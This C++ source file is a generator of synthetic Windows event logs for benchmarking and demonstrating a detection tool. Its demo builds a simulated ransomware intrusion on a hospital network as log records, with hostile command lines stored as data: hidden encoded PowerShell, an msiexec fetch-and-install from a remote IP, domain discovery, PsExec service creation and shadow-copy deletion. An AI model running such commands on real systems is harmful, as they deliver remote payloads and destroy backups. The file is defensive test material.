// vigie-evtxgen: writes EVTX files with vigie's own writer.
//
//   vigie-evtxgen --demo OUT.evtx            a small, fixed intrusion story (the README demo)
//   vigie-evtxgen --synthetic N OUT.evtx     N varied Sysmon/Security events (benchmark input)
//   vigie-evtxgen --chunks-from DIR --size-mb M OUT.evtx
//                                            real chunks of the EVTX files under DIR, repeated in
//                                            order up to M MiB (benchmark input made of real logs)
//   vigie-evtxgen --scenario DIR [--benign-only] [--seed N]
//                                            a week of a hospital's logs with a Clop intrusion
//                                            (or without), DIR/<HOST>/<Channel>.evtx
//
// Output is deterministic: the same arguments give the same bytes (a test checks the committed
// demo file against a fresh one).
#include <fmt/format.h>
#include <CLI/CLI.hpp>

#include <zlib.h>

#include <algorithm>
#include <cstdint>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <string>
#include <vector>

#include "core/time.hpp"
#include "evtx/windows_event.hpp"
#include "evtx/writer.hpp"
#include "scenario/scenario.hpp"

namespace {

using vigie::evtx::WindowsEventSpec;

constexpr const char* kSysmonGuid = "5770385F-C22A-43E0-BF4C-06F5698FFBD9";
constexpr const char* kSecurityGuid = "54849625-5478-4994-A5BA-3E3B0328C30D";
constexpr const char* kScmGuid = "555908D1-A6D7-4695-8E1E-26931D2012F4";

vigie::core::FileTimeTicks at(const char* iso) {
    return *vigie::core::parse_iso8601(iso);
}

WindowsEventSpec security(std::uint16_t id, const char* time, const char* host,
                          std::vector<std::pair<std::string, std::string>> data) {
    WindowsEventSpec s;
    s.provider_guid = kSecurityGuid;
    s.event_id = id;
    s.time = at(time);
    s.computer = host;
    s.data = std::move(data);
    s.process_id = 636;
    s.thread_id = 4120;
    return s;
}

WindowsEventSpec sysmon(std::uint16_t id, const char* time, const char* host,
                        std::vector<std::pair<std::string, std::string>> data) {
    WindowsEventSpec s;
    s.provider = "Microsoft-Windows-Sysmon";
    s.provider_guid = kSysmonGuid;
    s.event_id = id;
    s.version = 5;
    s.level = 4;
    s.task = id;
    s.keywords = 0x8000000000000000ULL;
    s.time = at(time);
    s.channel = "Microsoft-Windows-Sysmon/Operational";
    s.computer = host;
    s.user_sid = "S-1-5-18";
    s.data = std::move(data);
    s.process_id = 2796;
    s.thread_id = 3592;
    return s;
}

WindowsEventSpec process(const char* time, const char* host, const char* image, const char* command,
                         const char* parent, const char* user) {
    return sysmon(
        1, time, host,
        {{"RuleName", "-"},
         {"UtcTime", std::string(time).substr(0, 10) + " " + std::string(time).substr(11, 12)},
         {"ProcessGuid", "{747F3D96-D6EB-5D31-0000-0010E0252500}"},
         {"ProcessId", "5828"},
         {"Image", image},
         {"CommandLine", command},
         {"CurrentDirectory", "C:\\Windows\\system32\\"},
         {"User", user},
         {"IntegrityLevel", "High"},
         {"ParentImage", parent}});
}

// A compressed version of what the French national agency described for Rouen, November 2019:
// a phishing foothold, days of manual discovery and lateral movement, then encryption.
std::vector<WindowsEventSpec> demo_story() {
    std::vector<WindowsEventSpec> e;
    e.push_back(process("2019-11-12T08:41:07.125000Z", "PC-ACCUEIL-07",
                        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                        "powershell.exe -nop -w hidden -enc SQBFAFgA",
                        "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
                        "CHU\\m.durand"));
    e.push_back(process("2019-11-12T09:02:55.500000Z", "PC-ACCUEIL-07",
                        "C:\\Windows\\System32\\msiexec.exe",
                        "msiexec.exe /i http://198.51.100.7/update.msi /q",
                        "C:\\Windows\\System32\\cmd.exe", "CHU\\m.durand"));
    e.push_back(process("2019-11-13T14:10:21.000000Z", "PC-ACCUEIL-07",
                        "C:\\Users\\Public\\AdFind.exe", "AdFind.exe -f (objectcategory=computer)",
                        "C:\\Windows\\System32\\cmd.exe", "CHU\\m.durand"));
    e.push_back(process("2019-11-13T14:12:40.000000Z", "PC-ACCUEIL-07",
                        "C:\\Windows\\System32\\net.exe", "net group \"domain admins\" /domain",
                        "C:\\Windows\\System32\\cmd.exe", "CHU\\m.durand"));
    e.push_back(security(4624, "2019-11-15T02:13:09.000000Z", "SRV-FICHIERS-01",
                         {{"TargetUserName", "adm-backup"},
                          {"TargetDomainName", "CHU"},
                          {"LogonType", "3"},
                          {"IpAddress", "10.20.4.57"},
                          {"WorkstationName", "PC-ACCUEIL-07"},
                          {"LogonProcessName", "NtLmSsp"}}));
    e.push_back(security(5145, "2019-11-15T02:13:10.000000Z", "SRV-FICHIERS-01",
                         {{"SubjectUserName", "adm-backup"},
                          {"ShareName", "\\\\*\\ADMIN$"},
                          {"RelativeTargetName", "PSEXESVC.exe"},
                          {"IpAddress", "10.20.4.57"}}));
    WindowsEventSpec service;
    service.provider = "Service Control Manager";
    service.provider_guid = kScmGuid;
    service.event_id = 7045;
    service.level = 4;
    service.keywords = 0x8080000000000000ULL;
    service.time = at("2019-11-15T02:13:12.000000Z");
    service.channel = "System";
    service.computer = "SRV-FICHIERS-01";
    service.user_sid = "S-1-5-21-3623811015-3361044348-30300820-1013";
    service.data = {{"ServiceName", "SecurityCenterIBM"},
                    {"ImagePath", "C:\\Windows\\Temp\\wsvc.exe"},
                    {"ServiceType", "user mode service"},
                    {"StartType", "auto start"},
                    {"AccountName", "LocalSystem"}};
    e.push_back(service);
    e.push_back(process("2019-11-15T19:58:31.000000Z", "SRV-FICHIERS-01",
                        "C:\\Windows\\System32\\vssadmin.exe",
                        "vssadmin Delete Shadows /all /quiet", "C:\\Windows\\Temp\\wsvc.exe",
                        "NT AUTHORITY\\SYSTEM"));
    e.push_back(sysmon(11, "2019-11-15T20:01:02.000000Z", "SRV-FICHIERS-01",
                       {{"RuleName", "-"},
                        {"Image", "C:\\Windows\\Temp\\wsvc.exe"},
                        {"TargetFilename", "D:\\Partages\\Radiologie\\ClopReadMe.txt"}}));
    e.push_back(
        sysmon(11, "2019-11-15T20:01:03.000000Z", "SRV-FICHIERS-01",
               {{"RuleName", "-"},
                {"Image", "C:\\Windows\\Temp\\wsvc.exe"},
                {"TargetFilename", "D:\\Partages\\Radiologie\\compte-rendu-0412.docx.CIop"}}));
    WindowsEventSpec cleared = security(1102, "2019-11-15T20:05:00.000000Z", "SRV-FICHIERS-01", {});
    cleared.provider = "Microsoft-Windows-Eventlog";
    cleared.provider_guid = "FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148";
    cleared.level = 4;
    cleared.task = 104;
    cleared.keywords = 0x4020000000000000ULL;
    cleared.data = {{"SubjectUserName", "SYSTEM"}, {"SubjectDomainName", "NT AUTHORITY"}};
    e.push_back(cleared);
    std::uint64_t id = 1;
    for (auto& spec : e) spec.record_id = id++;
    return e;
}

// Deterministic pseudo-random numbers (xorshift64*), so inputs are reproducible.
struct Rng {
    std::uint64_t s;
    std::uint64_t next() {
        s ^= s >> 12;
        s ^= s << 25;
        s ^= s >> 27;
        return s * 2685821657736338717ULL;
    }
};

WindowsEventSpec synthetic(std::uint64_t n, Rng& rng) {
    static const char* kImages[] = {
        "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\explorer.exe",
        "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "C:\\Program Files (x86)\\Dossier Patient\\dpi.exe"};
    static const char* kHosts[] = {"PC-ACCUEIL-07", "PC-URGENCES-12", "SRV-FICHIERS-01",
                                   "SRV-DPI-02"};
    const char* image = kImages[rng.next() % 5];
    const char* host = kHosts[rng.next() % 4];
    const std::uint64_t base = *vigie::core::parse_iso8601("2024-03-01T00:00:00Z");
    const auto time = base + n * 3'170'000ULL + rng.next() % 1000;
    const std::string t = vigie::core::format_iso8601_micros(time);
    WindowsEventSpec s;
    switch (rng.next() % 4) {
        case 0:
            s = process(
                t.c_str(), host, image,
                fmt::format("\"{}\" --profile {} --id {}", image, rng.next() % 1000, n).c_str(),
                "C:\\Windows\\explorer.exe", "CHU\\utilisateur");
            break;
        case 1:
            s = sysmon(3, t.c_str(), host,
                       {{"RuleName", "-"},
                        {"Image", image},
                        {"Protocol", "tcp"},
                        {"SourceIp", fmt::format("10.20.{}.{}", rng.next() % 16, rng.next() % 250)},
                        {"SourcePort", std::to_string(49152 + rng.next() % 16000)},
                        {"DestinationIp", fmt::format("10.0.0.{}", rng.next() % 250)},
                        {"DestinationPort", "445"}});
            break;
        case 2:
            s = sysmon(11, t.c_str(), host,
                       {{"RuleName", "-"},
                        {"Image", image},
                        {"TargetFilename", fmt::format("D:\\Partages\\Service-{}\\document-{}.docx",
                                                       rng.next() % 40, n)}});
            break;
        default:
            s = security(
                4624, t.c_str(), host,
                {{"TargetUserName", fmt::format("user{}", rng.next() % 500)},
                 {"TargetDomainName", "CHU"},
                 {"LogonType", std::to_string(rng.next() % 2 == 0 ? 3 : 10)},
                 {"IpAddress", fmt::format("10.20.{}.{}", rng.next() % 16, rng.next() % 250)},
                 {"LogonProcessName", "NtLmSsp"}});
            break;
    }
    s.time = time;
    s.record_id = n + 1;
    return s;
}

// Chunks are self-contained (their records, names and templates live inside them), so the
// chunks of many real files can be laid end to end under a new file header.
int write_chunks_from(const std::string& dir, std::uint64_t size_mb, const std::string& out) {
    namespace fs = std::filesystem;
    constexpr std::size_t kHeader = 4096, kChunk = 65536;
    std::vector<fs::path> files;
    for (const auto& e : fs::recursive_directory_iterator(dir)) {
        if (e.is_regular_file() && e.path().extension() == ".evtx") files.push_back(e.path());
    }
    std::sort(files.begin(), files.end());
    std::vector<std::vector<char>> chunks;
    for (const auto& f : files) {
        std::ifstream in(f, std::ios::binary);
        const std::vector<char> bytes((std::istreambuf_iterator<char>(in)),
                                      std::istreambuf_iterator<char>());
        if (bytes.size() < kHeader || std::memcmp(bytes.data(), "ElfFile", 8) != 0) continue;
        std::uint16_t declared = 0;
        std::memcpy(&declared, bytes.data() + 42, 2);
        for (std::size_t c = 0; c < declared && kHeader + (c + 1) * kChunk <= bytes.size(); ++c) {
            const char* chunk = bytes.data() + kHeader + c * kChunk;
            if (std::memcmp(chunk, "ElfChnk", 8) == 0) chunks.emplace_back(chunk, chunk + kChunk);
        }
    }
    if (chunks.empty()) {
        fmt::print(stderr, "vigie-evtxgen: no EVTX chunks under {}\n", dir);
        return 2;
    }
    const std::uint64_t count = std::min<std::uint64_t>(size_mb * 1024 * 1024 / kChunk, 0xFFFF);
    std::vector<std::uint8_t> header(kHeader, 0);
    std::memcpy(header.data(), "ElfFile", 8);
    const std::uint64_t last = count - 1, next_id = 1;
    const std::uint32_t header_size = 128;
    const std::uint16_t minor = 1, major = 3, block = 4096,
                        chunk_count = static_cast<std::uint16_t>(count);
    std::memcpy(header.data() + 16, &last, 8);
    std::memcpy(header.data() + 24, &next_id, 8);
    std::memcpy(header.data() + 32, &header_size, 4);
    std::memcpy(header.data() + 36, &minor, 2);
    std::memcpy(header.data() + 38, &major, 2);
    std::memcpy(header.data() + 40, &block, 2);
    std::memcpy(header.data() + 42, &chunk_count, 2);
    const auto crc = static_cast<std::uint32_t>(crc32(0, header.data(), 120));
    std::memcpy(header.data() + 124, &crc, 4);
    std::ofstream o(out, std::ios::binary);
    o.write(reinterpret_cast<const char*>(header.data()),
            static_cast<std::streamsize>(header.size()));
    for (std::uint64_t i = 0; i < count; ++i) o.write(chunks[i % chunks.size()].data(), kChunk);
    if (!o) {
        fmt::print(stderr, "vigie-evtxgen: cannot write {}\n", out);
        return 2;
    }
    fmt::print(stderr, "{}: {} chunks ({} distinct from {} files)\n", out, count, chunks.size(),
               files.size());
    return 0;
}

}  // namespace

int main(int argc, char** argv) {
    CLI::App app{"Writes EVTX files with vigie's writer"};
    std::string demo;
    std::uint64_t count = 0;
    std::string out;
    app.add_option("--demo", demo, "Write the demo intrusion story to this file");
    app.add_option("--synthetic", count, "Number of synthetic events to write");
    std::string chunks_from;
    std::uint64_t size_mb = 200;
    app.add_option("--chunks-from", chunks_from,
                   "Build a file from the chunks of the EVTX files under this folder");
    app.add_option("--size-mb", size_mb, "Size for --chunks-from, in MiB")->capture_default_str();
    app.add_option("OUT", out, "Output file for --synthetic and --chunks-from");
    std::string scenario_dir;
    bool benign_only = false;
    vigie::scenario::ScenarioOptions scenario;
    app.add_option("--scenario", scenario_dir,
                   "Write the hospital week scenario (one folder per host) under this folder");
    app.add_flag("--benign-only", benign_only, "--scenario without the intrusion");
    app.add_option("--seed", scenario.seed, "Seed of --scenario")->capture_default_str();
    CLI11_PARSE(app, argc, argv);
    if (!scenario_dir.empty()) {
        scenario.attack = !benign_only;
        auto manifest = vigie::scenario::write_hospital_scenario(scenario, scenario_dir);
        if (!manifest) {
            fmt::print(stderr, "vigie-evtxgen: {}\n", manifest.error().to_string());
            return 2;
        }
        fmt::print(stderr, "{}: {} events in {} files on {} hosts\n", scenario_dir,
                   manifest->events, manifest->files.size(), manifest->hosts.size());
        return 0;
    }
    if (!chunks_from.empty() && !out.empty()) return write_chunks_from(chunks_from, size_mb, out);

    vigie::evtx::EvtxWriter writer;
    vigie::core::Event event;
    std::string path;
    if (!demo.empty()) {
        for (const auto& spec : demo_story()) {
            vigie::evtx::build_windows_event(spec, event);
            if (auto r = writer.add(event); !r) {
                fmt::print(stderr, "vigie-evtxgen: {}\n", r.error().to_string());
                return 2;
            }
        }
        path = demo;
    } else if (count > 0 && !out.empty()) {
        Rng rng{0x9E3779B97F4A7C15ULL};
        for (std::uint64_t n = 0; n < count; ++n) {
            vigie::evtx::build_windows_event(synthetic(n, rng), event);
            if (auto r = writer.add(event); !r) {
                fmt::print(stderr, "vigie-evtxgen: {}\n", r.error().to_string());
                return 2;
            }
        }
        path = out;
    } else {
        fmt::print(stderr, "{}", app.help());
        return 2;
    }
    if (auto r = writer.write_file(path); !r) {
        fmt::print(stderr, "vigie-evtxgen: {}\n", r.error().to_string());
        return 2;
    }
    return 0;
}
